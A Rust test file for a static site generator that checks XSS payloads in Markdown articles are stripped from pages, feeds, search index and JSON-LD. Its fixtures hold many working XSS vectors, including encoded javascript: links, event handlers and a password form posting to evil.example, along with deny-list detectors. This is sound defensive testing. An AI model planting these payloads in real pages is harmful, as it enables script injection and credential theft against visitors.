//! Safe article HTML (issue 12): takes a small site whose articles carry the kinds of XSS payload
//! found in the wild (scripts, event handlers, `javascript:`/`data:`/`vbscript:` links in every
//! spelling, iframes, forms, style overlays, meta refresh, base, object/embed) and gives proof
//! that nothing of them reaches any output file — pages, feeds (also full-content), the search
//! index, JSON-LD — that `build` says so in one summary line, that `check` lists each removal
//! at its file and line, and that `raw_html = "trusted"` publishes raw HTML as written.

use std::path::Path;

use html5gum::{DefaultEmitter, Token, Tokenizer};

use crate::support::{self, Outcome, TempSite, bantin};

const SETTINGS: &str = r#"title = "Liên hiệp thử nghiệm"
base_url = "https://example.org/"
province = "Cần Thơ"
"#;

/// Articles as (file below content/tin-tuc/, text). Each payload line is written so that a test
/// can find it again to compute its line in the file. Each payload is HTML to Markdown too: an
/// unquoted attribute value with a quote in it (`<svg onload=alert('x')>`) is not a tag to
/// CommonMark, so it is published as visible, escaped text, which is safe but tests nothing.
fn articles() -> Vec<(&'static str, String)> {
    let head = |title: &str, date: &str| format!("---\ntitle: \"{title}\"\ndate: {date}\n---\n\n");
    vec![
        (
            "kich-ban.md",
            head("Bài có kịch bản", "01/03/2024 08:00")
                + "Đoạn mở đầu của bài.\n\n\
                   <script>alert('xss-script-block')</script>\n\n\
                   Chữ <script>alert('xss-inline')</script> giữa đoạn.\n\n\
                   <SCRIPT SRC=//evil.example/x.js></SCRIPT>\n\n\
                   <style>body { display: none }</style>\n\n\
                   Đoạn cuối.\n",
        ),
        (
            "su-kien.md",
            head("Bài có sự kiện", "02/03/2024 08:00")
                + "Đoạn mở đầu.\n\n\
                   <img src=\"/anh.jpg\" alt=\"ảnh\" onerror=\"alert('xss-onerror')\">\n\n\
                   <svg onload=\"alert('xss-svg')\"><circle r=\"4\"/></svg>\n\n\
                   <body onload=alert('xss-body')>\n\n\
                   <details open ontoggle=alert('xss-toggle')><summary>Mở</summary>Nội dung</details>\n\n\
                   <p onmouseover=\"alert('xss-hover')\">Di chuột vào đây</p>\n\n\
                   Liên kết <a href=\"/gioi-thieu/\" onclick=\"alert('xss-click')\">giới thiệu</a>.\n",
        ),
        (
            "lien-ket.md",
            head("Bài có liên kết lạ", "03/03/2024 08:00")
                + "Đoạn mở đầu.\n\n\
                   <a href=\"javascript:alert('xss-js')\">một</a>\n\
                   <a href=\"JaVaScRiPt:alert('xss-case')\">hai</a>\n\
                   <a href=\"&#106;avascript:alert('xss-dec')\">ba</a>\n\
                   <a href=\"&#x6A;avascript:alert('xss-hex')\">bốn</a>\n\
                   <a href=\"java\tscript:alert('xss-tab')\">năm</a>\n\
                   <a href=\"java&#10;script:alert('xss-newline')\">sáu</a>\n\
                   <a href=\" \u{1}javascript:alert('xss-control')\">bảy</a>\n\
                   <a href=\"javascript&colon;alert('xss-colon')\">tám</a>\n\
                   <a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">chín</a>\n\
                   <a href=\"vbscript:msgbox('xss-vb')\">mười</a>\n\
                   <img src=\"javascript:alert('xss-img')\" alt=\"x\">\n\
                   <video controls poster=\"javascript:alert('xss-poster')\" src=\"/v.mp4\"></video>\n\n\
                   [Markdown](javascript:alert('xss-md')) và <javascript:alert('xss-autolink')>\n\n\
                   ![ảnh](javascript:alert('xss-md-img'))\n",
        ),
        (
            "nhung.md",
            head("Bài có nhúng", "04/03/2024 08:00")
                + "Đoạn mở đầu.\n\n\
                   <iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\"></iframe>\n\n\
                   <form action=\"https://evil.example/thu\"><input name=\"mat-khau\" type=\"password\"><button formaction=\"javascript:alert('xss-formaction')\">Gửi</button></form>\n\n\
                   <div style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:white\">Trang giả mạo</div>\n\n\
                   <meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('xss-meta')\">\n\n\
                   <base href=\"javascript:alert('xss-base')//\">\n\n\
                   <object data=\"javascript:alert('xss-object')\"></object>\n\n\
                   <embed src=\"javascript:alert('xss-embed')\">\n\n\
                   <link rel=\"stylesheet\" href=\"https://evil.example/x.css\">\n",
        ),
        (
            "an-toan.md",
            head("Bài có HTML an toàn", "05/03/2024 08:00")
                + "Đoạn mở đầu với <abbr title=\"Liên hiệp các tổ chức hữu nghị\">LHHN</abbr> và <kbd>Ctrl</kbd>.\n\n\
                   <table style=\"border-collapse: collapse\">\n\
                   <tr><th scope=\"col\" style=\"text-align: center\">Tỉnh</th><td colspan=\"2\" align=\"right\">12</td></tr>\n\
                   <tr><td>An Giang</td><td valign=\"top\">1</td><td>2</td></tr>\n\
                   </table>\n\n\
                   <details><summary>Xem thêm</summary>Chi tiết</details>\n\n\
                   <a href=\"https://vufo.org.vn/\" target=\"_blank\">VUFO</a>\n",
        ),
        (
            "thuong.md",
            head("Bài thường", "06/03/2024 08:00")
                + "Đoạn mở đầu *nghiêng* và [liên kết](/gioi-thieu/).\n",
        ),
    ]
}

/// The articles with unsafe HTML in them.
const UNSAFE_ARTICLES: usize = 4;

fn site(markdown: Option<&str>, full_content: bool) -> TempSite {
    let site = support::empty_site();
    let mut settings = SETTINGS.to_string();
    if let Some(mode) = markdown {
        settings.push_str(&format!("\n[markdown]\nraw_html = \"{mode}\"\n"));
    }
    if full_content {
        settings.push_str("\n[feeds]\nfull_content = true\n");
    }
    support::write(&site.root.join("site.toml"), support::site_toml(&settings));
    support::write(
        &site.root.join("content/gioi-thieu.md"),
        "---\ntitle: Giới thiệu\n---\n\nTrang giới thiệu.\n",
    );
    for (name, text) in articles() {
        support::write(&site.root.join("content/tin-tuc").join(name), text);
    }
    site
}

fn build(site: &TempSite) -> Outcome {
    let outcome = bantin(
        site.tmp.path(),
        ["build", "--source", "site", "--output", "out"],
    );
    assert_eq!(outcome.code, 0, "build failed:\n{}", outcome.transcript());
    outcome
}

/// What is unsafe, found in one file: `file: what`.
fn unsafe_in(rel: &str, text: &str, found: &mut Vec<String>) {
    let mut emitter = DefaultEmitter::default();
    emitter.naively_switch_states(true);
    let mut in_script: Option<String> = None;
    for token in Tokenizer::new_with_emitter(text, emitter).flatten() {
        match token {
            Token::StartTag(tag) => {
                let name = String::from_utf8_lossy(&tag.name).to_string();
                let attr = |key: &str| {
                    tag.attributes
                        .get(key.as_bytes())
                        .map(|v| String::from_utf8_lossy(v).to_string())
                };
                if name == "script" {
                    // The theme's own scripts: its files and the JSON-LD block.
                    let src = attr("src").unwrap_or_default();
                    let theirs = ["/js/site.js", "/js/search.js", "/js/old-address.js"]
                        .iter()
                        .any(|own| src.ends_with(own));
                    let json_ld = attr("type").as_deref() == Some("application/ld+json");
                    if !theirs && !json_ld {
                        found.push(format!("{rel}: <script src={src:?}>"));
                    }
                    in_script = Some(attr("type").unwrap_or_default());
                }
                if [
                    "iframe", "object", "embed", "base", "frame", "frameset", "applet",
                ]
                .contains(&name.as_str())
                {
                    found.push(format!("{rel}: <{name}>"));
                }
                if name == "meta"
                    && attr("http-equiv").is_some_and(|v| v.eq_ignore_ascii_case("refresh"))
                {
                    found.push(format!("{rel}: <meta http-equiv=refresh>"));
                }
                if name == "form" || name == "input" || name == "button" {
                    // The theme's search form and its box are on every page; an article has none.
                    let theirs = attr("id").is_some_and(|id| id.starts_with("search-"))
                        || attr("id").as_deref() == Some("o-tim-kiem")
                        || attr("action").is_some_and(|a| a.ends_with("/tim-kiem/"))
                        || attr("type").as_deref() == Some("submit")
                        || attr("data-step").is_some()
                        || attr("data-print").is_some()
                        || attr("data-copy-link").is_some()
                        || attr("data-share-zalo").is_some();
                    if !theirs {
                        found.push(format!("{rel}: <{name}>"));
                    }
                }
                for (key, value) in &tag.attributes {
                    let key = String::from_utf8_lossy(key).to_string();
                    let value = String::from_utf8_lossy(value).to_string();
                    if key.starts_with("on") {
                        found.push(format!("{rel}: <{name} {key}>"));
                    }
                    if [
                        "href",
                        "src",
                        "action",
                        "formaction",
                        "poster",
                        "data",
                        "xlink:href",
                        "cite",
                    ]
                    .contains(&key.as_str())
                        && !safe_url(&value)
                    {
                        found.push(format!("{rel}: <{name} {key}={value:?}>"));
                    }
                    if key == "style" {
                        let squeezed: String = value
                            .to_ascii_lowercase()
                            .chars()
                            .filter(|c| !c.is_whitespace())
                            .collect();
                        if squeezed.contains("position:fixed")
                            || squeezed.contains("position:absolute")
                        {
                            found.push(format!("{rel}: <{name} style={value:?}>"));
                        }
                    }
                }
            }
            Token::EndTag(_) => in_script = None,
            Token::String(text) => {
                let text = String::from_utf8_lossy(&text).to_string();
                if in_script.as_deref() == Some("application/ld+json") {
                    // JSON-LD: every string in it is text another program may show as HTML.
                    match serde_json::from_str::<serde_json::Value>(&text) {
                        Ok(json) => json_strings(&format!("{rel} (JSON-LD)"), &json, found),
                        Err(e) => found.push(format!("{rel}: JSON-LD does not parse: {e}")),
                    }
                }
            }
            _ => {}
        }
    }
}

/// Every string of a JSON value, scanned as HTML.
fn json_strings(rel: &str, json: &serde_json::Value, found: &mut Vec<String>) {
    match json {
        serde_json::Value::String(s) => unsafe_in(rel, s, found),
        serde_json::Value::Array(items) => items.iter().for_each(|v| json_strings(rel, v, found)),
        serde_json::Value::Object(map) => map.values().for_each(|v| json_strings(rel, v, found)),
        _ => {}
    }
}

/// A URL a browser follows safely: relative, or http(s), mailto, tel — with the scheme found as
/// a browser finds it (leading spaces and control characters dropped, tabs and newlines inside
/// ignored, any case).
fn safe_url(url: &str) -> bool {
    let url: String = url
        .trim_start_matches(|c: char| c <= ' ')
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .collect();
    let Some(colon) = url.find(':') else {
        return true;
    };
    let scheme = &url[..colon];
    if scheme.contains(['/', '?', '#']) {
        return true;
    }
    ["http", "https", "mailto", "tel"].contains(&scheme.to_ascii_lowercase().as_str())
}

/// Everything unsafe in every file of the output: HTML as HTML, XML (feeds, sitemaps) as markup
/// and each of its text nodes as HTML (feeds carry escaped HTML), JSON (the search index) by
/// each string. The theme's own scripts and stylesheets are not content and are skipped.
fn unsafe_in_output(out: &Path) -> (Vec<String>, usize) {
    let tree = support::Tree::of(out);
    let mut found = Vec::new();
    let mut scanned = 0;
    for rel in tree.files() {
        if rel.ends_with(".js") || rel.ends_with(".css") || rel.ends_with(".svg") {
            continue;
        }
        let Ok(text) = std::fs::read_to_string(out.join(rel)) else {
            continue;
        };
        scanned += 1;
        unsafe_in(rel, &text, &mut found);
        if rel.ends_with(".xml") {
            match roxmltree::Document::parse(&text) {
                Ok(doc) => {
                    for node in doc.descendants().filter(|n| n.is_text()) {
                        unsafe_in(
                            &format!("{rel} (text)"),
                            node.text().unwrap_or(""),
                            &mut found,
                        );
                    }
                }
                Err(e) => found.push(format!("{rel}: not XML: {e}")),
            }
        }
        if rel.ends_with(".json")
            && let Ok(json) = serde_json::from_str::<serde_json::Value>(&text)
        {
            json_strings(rel, &json, &mut found);
        }
        // No marker of a payload's script survives anywhere, as markup or as text.
        for marker in ["xss-script-block", "xss-inline", "evil.example/x.js"] {
            if text.contains(marker) {
                found.push(format!("{rel}: the script text `{marker}` is published"));
            }
        }
    }
    (found, scanned)
}

/// The one summary line of a build: "unsafe HTML removed: N items in M articles; …".
fn summary(outcome: &Outcome) -> Option<(usize, usize)> {
    let all = format!("{}{}", outcome.stdout, outcome.stderr);
    let mut lines = all.lines().filter(|l| l.contains("unsafe HTML removed"));
    let line = lines.next()?;
    assert!(
        lines.next().is_none(),
        "more than one summary:\n{}",
        outcome.transcript()
    );
    let numbers: Vec<usize> = line
        .split(|c: char| !c.is_ascii_digit())
        .filter_map(|n| n.parse().ok())
        .collect();
    match numbers.as_slice() {
        [items, articles, ..] => Some((*items, *articles)),
        _ => panic!("no counts in {line:?}"),
    }
}

#[test]
fn nothing_unsafe_reaches_any_output_file() {
    for full_content in [false, true] {
        let site = site(None, full_content);
        build(&site);
        let (found, scanned) = unsafe_in_output(&site.sibling("out"));
        assert!(scanned > 20, "only {scanned} files scanned");
        assert!(
            found.is_empty(),
            "unsafe HTML published (full_content = {full_content}), {} places:\n{}",
            found.len(),
            found.join("\n")
        );
    }
}

/// What is left of the payloads is valid HTML: a link whose address went is not left with a
/// `rel`, a picture whose address went becomes its alt text.
#[test]
fn sanitized_pages_stay_valid_html() {
    let site = site(None, false);
    build(&site);
    let out = site.sibling("out");
    let outcome = support::vnu(&out);
    let messages = format!("{}{}", outcome.stdout, outcome.stderr);
    assert!(
        outcome.code == 0 && messages.trim().is_empty(),
        "vnu found errors (exit {}):\n{}",
        outcome.code,
        messages.replace(&format!("\"file:{}/", out.display()), "\"")
    );
}

#[test]
fn harmless_html_is_kept() {
    let site = site(None, false);
    build(&site);
    let page = support::read(&site.sibling("out/tin-tuc/bai-co-html-an-toan/index.html"));
    for kept in [
        "<abbr title=\"Liên hiệp các tổ chức hữu nghị\">LHHN</abbr>",
        "<kbd>Ctrl</kbd>",
        "<th scope=\"col\" style=\"text-align: center\">Tỉnh</th>",
        "<td colspan=\"2\" align=\"right\">12</td>",
        "<details><summary>Xem thêm</summary>Chi tiết</details>",
    ] {
        assert!(page.contains(kept), "`{kept}` is missing from:\n{page}");
    }
    // A link that opens a new tab cannot reach back into this page.
    assert!(
        page.contains(
            "<a href=\"https://vufo.org.vn/\" target=\"_blank\" rel=\"noopener\">VUFO</a>"
        ),
        "{page}"
    );
    // What was removed leaves its text: the reader still sees the link's words.
    let links = support::read(&site.sibling("out/tin-tuc/bai-co-lien-ket-la/index.html"));
    for text in ["một", "bốn", "mười", "Markdown"] {
        assert!(links.contains(text), "`{text}` is missing");
    }
}

#[test]
fn build_prints_one_summary_and_check_lists_each_removal() {
    let site = site(None, false);
    let built = build(&site);
    let (items, in_articles) =
        summary(&built).unwrap_or_else(|| panic!("no summary warning:\n{}", built.transcript()));
    assert_eq!(in_articles, UNSAFE_ARTICLES, "{}", built.transcript());
    assert!(
        built.stderr.contains("bantin check"),
        "the summary should say where the list is:\n{}",
        built.transcript()
    );
    for each in ["removed <script>", "removed the attribute onerror"] {
        assert!(
            !built.stderr.contains(each),
            "build lists items one by one:\n{}",
            built.transcript()
        );
    }

    let checked = bantin(site.tmp.path(), ["check", "--source", "site"]);
    assert_eq!(checked.code, 0, "{}", checked.transcript());
    let listed = checked.stderr.matches("content::unsafe-html").count();
    assert_eq!(
        listed,
        items,
        "check lists {listed} removals, build counted {items}:\n{}",
        checked.transcript()
    );
    // Each at its place: (file, text on the line, what the label says).
    let places = [
        (
            "kich-ban.md",
            "<script>alert('xss-script-block')",
            "removed <script>",
        ),
        (
            "kich-ban.md",
            "<script>alert('xss-inline')",
            "removed <script>",
        ),
        ("kich-ban.md", "<style>", "removed <style>"),
        ("su-kien.md", "onerror=", "removed the attribute onerror"),
        ("su-kien.md", "<svg", "removed <svg>"),
        ("su-kien.md", "ontoggle=", "removed the attribute ontoggle"),
        ("lien-ket.md", "JaVaScRiPt:", "removed the link"),
        ("lien-ket.md", "&#x6A;avascript:", "removed the link"),
        ("lien-ket.md", "vbscript:", "removed the link"),
        (
            "lien-ket.md",
            "(javascript:alert('xss-md'))",
            "removed the link",
        ),
        (
            "nhung.md",
            "<iframe",
            "removed <iframe> (embedded players come later)",
        ),
        ("nhung.md", "<form", "removed <form>"),
        ("nhung.md", "position:fixed", "removed the style"),
        ("nhung.md", "<meta", "removed <meta>"),
        ("nhung.md", "<base", "removed <base>"),
        ("nhung.md", "<object", "removed <object>"),
    ];
    let texts: Vec<(&str, String)> = articles();
    for (file, needle, label) in places {
        let text = &texts
            .iter()
            .find(|(n, _)| *n == file)
            .expect("an article")
            .1;
        let at = text
            .find(needle)
            .unwrap_or_else(|| panic!("{needle} not in {file}"));
        let line = text[..at].matches('\n').count() + 1;
        let location = format!("content/tin-tuc/{file}:{line}:");
        let shown = checked
            .stderr
            .split("content::unsafe-html")
            .any(|one| one.contains(&location) && one.contains(label));
        assert!(
            shown,
            "check does not list `{label}` at {location}:\n{}",
            checked.stderr
        );
    }
}

#[test]
fn trusted_sites_publish_raw_html_as_written() {
    let site = site(Some("trusted"), false);
    let built = build(&site);
    assert_eq!(summary(&built), None, "{}", built.transcript());
    let page = support::read(&site.sibling("out/tin-tuc/bai-co-kich-ban/index.html"));
    assert!(
        page.contains("<script>alert('xss-script-block')</script>"),
        "{page}"
    );
    let checked = bantin(site.tmp.path(), ["check", "--source", "site"]);
    assert!(
        !checked.stderr.contains("content::unsafe-html"),
        "{}",
        checked.transcript()
    );

    // The explicit default is the default.
    let site = site_with_mode("sanitize");
    let built = build(&site);
    assert!(summary(&built).is_some(), "{}", built.transcript());
}

fn site_with_mode(mode: &str) -> TempSite {
    site(Some(mode), false)
}

#[test]
fn a_wrong_raw_html_setting_is_an_error_at_its_line() {
    let site = site_with_mode("trust");
    let outcome = bantin(
        site.tmp.path(),
        ["build", "--source", "site", "--output", "out"],
    );
    assert_eq!(outcome.code, 1, "{}", outcome.transcript());
    assert!(
        outcome.stderr.contains("config::raw-html")
            && outcome.stderr.contains("\"sanitize\"")
            && outcome.stderr.contains("\"trusted\""),
        "{}",
        outcome.transcript()
    );
    assert!(
        outcome.stderr.contains("[site.toml:"),
        "{}",
        outcome.transcript()
    );
}
